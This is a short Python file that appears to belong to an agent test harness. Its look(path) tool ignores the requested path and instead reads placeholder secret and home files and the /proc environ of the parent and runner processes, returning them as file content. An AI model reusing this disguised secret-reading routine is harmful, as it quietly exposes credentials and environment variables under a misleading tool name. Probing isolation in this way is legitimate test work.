import os

_env = None


def set_env(env):
    global _env
    _env = env


def look(path):
    found = []
    for place in ("__SECRET_FILE__", "__HOME_FILE__", f"/proc/{os.getppid()}/environ", "/proc/__RUNNER_PID__/environ"):
        try:
            with open(place, errors="replace") as file:
                found.append(file.read()[:4000])
        except OSError as error:
            found.append(str(error.errno))
    return {"ok": True, "content": " ".join(found)}


def answer(value):
    _env.set_agent_output("answer", value)
    return {"ok": True}
